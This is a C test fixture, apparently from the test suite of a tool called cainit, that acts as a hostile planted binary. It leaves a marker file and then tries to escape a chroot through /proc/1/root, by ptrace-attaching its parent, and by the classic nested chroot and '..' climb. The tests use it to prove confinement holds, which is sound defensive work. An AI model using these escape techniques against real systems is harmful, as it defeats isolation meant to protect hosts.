/*
 * escape.c: a program a hostile root plants where cainit once looked for
 * certutil. If anything ever runs it, it leaves /CAINIT-RAN in the root it
 * sees, then tries every way out a uid-0 process has (a second chroot and
 * "..", /proc/1/root, ptrace of its parent) to create the file named in
 * /escape-target on the real root. Tests plant it and prove that neither
 * file appears. Static, so that it runs in any root.
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void mark(const char *path, const char *how)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd >= 0) {
		(void)!write(fd, how, strlen(how));
		close(fd);
	}
}

int main(void)
{
	char target[PATH_MAX] = "", path[PATH_MAX + 32];
	int fd = open("/escape-target", O_RDONLY);
	ssize_t n;

	mark("/CAINIT-RAN", "ran\n");
	if (fd >= 0) {
		n = read(fd, target, sizeof(target) - 1);
		close(fd);
		if (n > 0)
			target[n] = '\0';
		target[strcspn(target, "\n")] = '\0';
	}
	if (target[0] != '/')
		return 1;
	snprintf(path, sizeof(path), "/proc/1/root%s", target);
	mark(path, "escaped through /proc/1/root\n");
	if (ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0) {
		int st;

		mark("/CAINIT-PTRACED", "attached to the parent\n");
		waitpid(getppid(), &st, __WALL); /* stopped: then let it go on */
		ptrace(PTRACE_DETACH, getppid(), NULL, NULL);
	}
	/* the classic escape: a chroot below the cwd, then climb */
	mkdir("escape-dir", 0755);
	if (chroot("escape-dir") == 0) {
		for (int i = 0; i < 256; i++)
			(void)!chdir("..");
		if (chroot(".") == 0)
			mark(target, "escaped through chroot\n");
	}
	return 0;
}
